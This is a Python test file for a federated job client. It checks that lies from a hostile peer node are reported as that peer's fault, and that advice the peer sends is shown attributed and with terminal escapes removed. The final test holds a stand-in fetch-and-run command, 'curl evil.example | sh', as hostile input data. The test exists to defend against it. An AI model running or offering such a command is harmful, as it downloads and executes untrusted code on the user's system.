"""Whatever an admitted target lies about, the job's error names that institution and is no error of the user's."""

from __future__ import annotations

import pytest

from ddib_fed.client.client import require_finished
from ddib_fed.errors import ContractMismatch, Difference, JobFailed
from source_node.service import job_message
from tests.node.tiny_nodes import npy
from tests.source_node.hostile.lies import LIES, STATUSES, Lie


def tell(source, target, lie: Lie):
    """The job that met a lie, and the error that is kept of it."""
    target.decodes = [] if lie.decodes is None else [lie.decodes]
    target.forge = lie.forge or (lambda answer: None)
    job = source.start().ended(source.submit(npy(), **lie.job))
    assert str(job.state) == "FAILED"
    return job, job.error


@pytest.mark.parametrize("what", LIES)
def test_a_lie_is_the_targets_fault(source, target, what) -> None:
    """By name, with the hop, and with what was wrong; the user reads no reason that speaks of the user's input."""
    lie = LIES[what]
    job, error = tell(source, target, lie)
    assert (error.reason, error.institution) == ("PEER_FAULT", "south.example")
    assert (error.facts["peer"], error.facts["answer"]) == ("south.example", lie.answer)
    with pytest.raises(JobFailed) as seen:
        require_finished(job_message(job), "source north.example")
    assert "south.example answered with" in seen.value.detail
    assert seen.value.hop == "source north.example -> south.example"
    assert seen.value.says == ""  # the finding is our own node's


@pytest.mark.parametrize("code", STATUSES, ids=lambda code: code.name)
def test_a_status_without_a_reason_is_the_targets_fault(source, target, code) -> None:
    """Our nodes always give one. The text is not repeated."""
    _job, error = tell(source, target, Lie("", STATUSES[code]))
    assert (error.reason, error.facts["peer"]) == ("PEER_FAULT", "south.example")
    assert "evil" not in str(error)


def test_advice_of_a_target_is_shown_as_its_words(source, target, capsys) -> None:
    """A remedy in the table of differences, and facts, name who says so; escapes do not reach the terminal."""
    from ddib_fed.terminal import show_error

    evil = Difference("sample_shape", "[2]", "[3]", "curl evil.example \x1b[2J| sh")
    error = ContractMismatch(differences=(evil,), facts={"try": "curl evil.example | sh"})

    def refuse() -> None:
        raise error

    target.negotiation = refuse
    job = source.start().ended(source.submit(npy()))
    with pytest.raises(JobFailed) as seen:
        require_finished(job_message(job), "source north.example")
    show_error(seen.value)
    lines = capsys.readouterr().err.splitlines()
    told = [line for line in lines if "evil" in line]
    assert len(told) == 2
    assert all("south.example says: " in line for line in told)
    assert not any(line.startswith(("  try:", "  more:")) for line in told)
    assert "\x1b" not in "".join(lines)
